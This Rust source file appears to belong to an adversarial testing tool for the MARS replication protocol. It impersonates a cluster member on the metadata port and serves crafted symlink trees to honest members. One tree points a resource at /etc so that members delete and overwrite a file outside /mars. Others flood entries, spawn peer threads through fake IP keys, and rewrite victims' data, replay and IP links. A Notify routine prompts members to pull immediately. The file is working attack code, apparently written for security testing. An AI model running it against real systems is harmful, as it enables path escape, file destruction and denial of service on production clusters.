// SPDX-License-Identifier: GPL-2.0
//! Attacks as a server: the tool listens on the metadata port in place of a member (its
//! address was enrolled, or redirected to it) and answers the members' pulls with a tree no
//! honest member has. Which tree is the [`Tree`]; the serving loop is the same for all.

use crate::conn::{address, now, Conn, IO_TIMEOUT};
use crate::handshake;
use crate::report::Report;
use crate::Options;
use mars_core::lamport::Stamp;
use mars_core::wire::{Dent, DentKind, DentsWriter, Message, PortRole, WireError};
use std::collections::BTreeSet;
use std::io::ErrorKind;
use std::net::{SocketAddr, TcpListener};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

/// The tree the tool serves, entry by entry (generated: a flood is not kept in memory).
pub(crate) enum Tree {
    /// `/mars/resource-x` -> `/etc`, then `/mars/resource-x/<canary>` = `.deleted`, then the
    /// same with a newer value: a member that follows the link deletes and replaces a file
    /// outside `/mars`.
    Escape { canary: String },
    /// `/mars/userspace/flood-<k>` = the value for k below the count.
    Flood { count: usize, value: String },
    /// `/mars/ips/ip-host<k>` for k below the count: every one a peer thread on a member that
    /// takes them.
    Ips(usize),
    /// For each victim: its own `data-`, `replay-` and `ips/ip-` links, changed.
    OwnKeys {
        resource: String,
        victims: Vec<String>,
    },
}

struct OwnedDent {
    path: String,
    value: String,
    stamp: Stamp,
}

impl Tree {
    fn len(&self) -> usize {
        match self {
            Tree::Escape { .. } => 3,
            Tree::Flood { count, .. } | Tree::Ips(count) => *count,
            Tree::OwnKeys { victims, .. } => victims.len().saturating_mul(3),
        }
    }

    /// Entry `index`, stamped relative to `base` (a little ahead of real time, so that it is
    /// newer than what the member has).
    fn entry(&self, index: usize, base: Stamp) -> OwnedDent {
        let at = |path: String, value: &str, ahead: i64| OwnedDent {
            path,
            value: value.to_string(),
            stamp: base.add_sec(ahead),
        };
        match self {
            Tree::Escape { canary } => match index {
                0 => at("/mars/resource-x".into(), "/etc", 2),
                1 => at(format!("/mars/resource-x/{canary}"), ".deleted", 3),
                _ => at(
                    format!("/mars/resource-x/{canary}"),
                    "written-by-the-adversary",
                    4,
                ),
            },
            Tree::Flood { value, .. } => at(format!("/mars/userspace/flood-{index}"), value, 2),
            Tree::Ips(_) => {
                let value = format!("10.78.{}.{}", index / 250, index % 250 + 1);
                at(format!("/mars/ips/ip-host{index}"), &value, 2)
            }
            Tree::OwnKeys { resource, victims } => {
                let victim = victims.get(index / 3).map_or("", String::as_str);
                let res = format!("/mars/resource-{resource}");
                match index % 3 {
                    0 => at(format!("{res}/data-{victim}"), "/dev/vdc", 2),
                    1 => at(
                        format!("{res}/replay-{victim}"),
                        &format!("log-000000001-{victim},0,0"),
                        2,
                    ),
                    _ => at(format!("/mars/ips/ip-{victim}"), "10.77.0.3", 2),
                }
            }
        }
    }
}

#[derive(Default)]
struct Stats {
    connections: usize,
    handshakes: usize,
    answers: usize,
    entries_sent: usize,
    /// Answers a member cut: it closed the connection before their end.
    cut: usize,
    /// Answers a member stopped reading (the tool gave up after its timeout).
    stalled: usize,
    /// Members that pulled the tree: answered two `GetEnts` completely (one pull), or cut
    /// an answer.
    served: BTreeSet<String>,
    answers_per_peer: Vec<(String, usize)>,
}

impl Stats {
    fn answered(&mut self, peer: &str) {
        self.answers += 1;
        let count = match self.answers_per_peer.iter_mut().find(|(p, _)| p == peer) {
            Some(entry) => {
                entry.1 += 1;
                entry.1
            }
            None => {
                self.answers_per_peer.push((peer.to_string(), 1));
                1
            }
        };
        if count >= 2 {
            self.served.insert(peer.to_string());
        }
    }
}

/// Serves `tree` on the metadata port until `--peers` members have pulled it completely or
/// `--seconds` have passed. With `--notify`, tells those members to pull now (as a client,
/// with the same identity).
pub(crate) fn serve(opts: &Options, tree: Tree) -> Report {
    let mut report = Report::default();
    let port = PortRole::Meta.port(opts.port).unwrap_or(opts.port);
    let listener = match TcpListener::bind(SocketAddr::from(([0, 0, 0, 0], port))) {
        Ok(listener) => listener,
        Err(e) => return report.error("bind", &e).take(),
    };
    if let Err(e) = listener.set_nonblocking(true) {
        return report.error("listen", &e).take();
    }
    let tree = Arc::new(tree);
    let stats = Arc::new(Mutex::new(Stats::default()));
    let stop = Arc::new(AtomicBool::new(false));
    let end = Instant::now() + Duration::from_secs(opts.seconds);
    let mut next_notify = Instant::now();
    let mut workers = Vec::new();
    while Instant::now() < end {
        let done = stats.lock().map_or(0, |s| s.served.len()) >= opts.peers;
        if done {
            break;
        }
        if Instant::now() >= next_notify {
            for host in &opts.notify {
                notify(opts, host);
            }
            next_notify = Instant::now() + Duration::from_secs(2);
        }
        match listener.accept() {
            Ok((stream, _)) => {
                let (opts, tree, stats) = (opts.clone(), Arc::clone(&tree), Arc::clone(&stats));
                let stop = Arc::clone(&stop);
                workers.push(std::thread::spawn(move || {
                    serve_connection(&opts, &tree, &stats, stream, end, &stop)
                }));
            }
            Err(_) => std::thread::sleep(Duration::from_millis(50)),
        }
    }
    drop(listener);
    stop.store(true, Ordering::Relaxed);
    for worker in workers {
        let _ = worker.join();
    }
    if let Ok(stats) = stats.lock() {
        let served: Vec<&str> = stats.served.iter().map(String::as_str).collect();
        report
            .set("connections", stats.connections)
            .set("handshakes", stats.handshakes)
            .set("answers", stats.answers)
            .set("entries_sent", stats.entries_sent)
            .set("cut", stats.cut)
            .set("stalled", stats.stalled)
            .set(
                "served",
                if served.is_empty() {
                    "none".to_string()
                } else {
                    served.join(",")
                },
            );
    }
    report
}

/// One member's connection: handshake, then every `GetEnts` answered with the whole tree,
/// every `Ping` with a `Pong`, anything else ignored, until `end`.
fn serve_connection(
    opts: &crate::Options,
    tree: &Tree,
    stats: &Mutex<Stats>,
    stream: std::net::TcpStream,
    end: Instant,
    stop: &AtomicBool,
) {
    let Ok(mut conn) = Conn::from_stream(stream) else {
        return;
    };
    if let Ok(mut s) = stats.lock() {
        s.connections += 1;
    }
    let Ok(peer) = handshake::server(&mut conn, &opts.identity(), PortRole::Meta) else {
        return;
    };
    if let Ok(mut s) = stats.lock() {
        s.handshakes += 1;
    }
    // Wake up every second to notice the end. A member merges a reply while it reads it (a
    // loaded TCG guest: a few hundred entries a second), so a write may block for long.
    let _ = conn.stream.set_read_timeout(Some(Duration::from_secs(1)));
    let _ = conn.stream.set_write_timeout(Some(Duration::from_secs(60)));
    while Instant::now() < end && !stop.load(Ordering::Relaxed) {
        let frame = match conn.recv() {
            Ok(frame) => frame,
            Err(e)
                if matches!(
                    e.kind(),
                    std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                ) =>
            {
                continue
            }
            Err(_) => return,
        };
        let tag = frame.tag();
        match frame.message() {
            Some(Message::GetEnts(_)) => {
                let (sent, end) = answer(&mut conn, tree, tag, end);
                if let Ok(mut s) = stats.lock() {
                    s.entries_sent += sent;
                    match end {
                        AnswerEnd::Complete => s.answered(&peer),
                        AnswerEnd::Cut => {
                            s.cut += 1;
                            s.served.insert(peer.clone());
                        }
                        AnswerEnd::Stalled => s.stalled += 1,
                    }
                }
                if end != AnswerEnd::Complete {
                    return;
                }
            }
            Some(Message::Ping) if conn.send(tag, &Message::Pong).is_err() => return,
            _ => {}
        }
    }
}

/// How sending an answer ended.
#[derive(Clone, Copy, PartialEq, Eq)]
enum AnswerEnd {
    /// Every batch went out.
    Complete,
    /// The member closed the connection.
    Cut,
    /// The member stopped reading, or the tool's time was up.
    Stalled,
}

/// Sends the whole tree as `Dents` batches answering `tag`, until `end`; returns the entries
/// sent and how it ended.
fn answer(conn: &mut Conn, tree: &Tree, tag: u64, end: Instant) -> (usize, AnswerEnd) {
    let base = now();
    let total = tree.len();
    let mut index = 0usize;
    let mut sent = 0usize;
    loop {
        let (len, count) = {
            let Ok(mut writer) = DentsWriter::new(conn.buffer()) else {
                return (sent, AnswerEnd::Stalled);
            };
            while index < total {
                let entry = tree.entry(index, base);
                let dent = Dent {
                    kind: DentKind::Symlink,
                    path: &entry.path,
                    value: &entry.value,
                    stamp: entry.stamp,
                    size: 0,
                };
                match writer.push(&dent) {
                    Ok(()) => index += 1,
                    Err(WireError::CountOverCap | WireError::BufferTooSmall) => break,
                    Err(_) => index += 1, // an entry the codec refuses is skipped
                }
            }
            let count = writer.count();
            match writer.finish(now(), tag, index < total) {
                Ok(len) => (len, count),
                Err(_) => return (sent, AnswerEnd::Stalled),
            }
        };
        let frame = conn
            .buffer()
            .get(..len)
            .map(<[u8]>::to_vec)
            .unwrap_or_default();
        if let Err(e) = conn.send_raw(&frame) {
            let cut = matches!(
                e.kind(),
                ErrorKind::BrokenPipe | ErrorKind::ConnectionReset | ErrorKind::ConnectionAborted
            );
            return (
                sent,
                if cut {
                    AnswerEnd::Cut
                } else {
                    AnswerEnd::Stalled
                },
            );
        }
        sent += count;
        if index >= total {
            return (sent, AnswerEnd::Complete);
        }
        if Instant::now() >= end {
            return (sent, AnswerEnd::Stalled);
        }
    }
}

/// Connects to `host` as a client and sends `Notify` ("pull from me now").
fn notify(opts: &Options, host: &str) {
    let Ok(addr) = address(host, opts.port, PortRole::Meta) else {
        return;
    };
    let Ok(mut conn) = Conn::connect(addr) else {
        return;
    };
    let _ = conn.stream.set_read_timeout(Some(IO_TIMEOUT));
    if let Ok(handshake::Outcome::Welcome { .. }) =
        handshake::client(&mut conn, &opts.identity(), PortRole::Meta, now())
    {
        let _ = conn.send(0, &Message::Notify);
    }
}
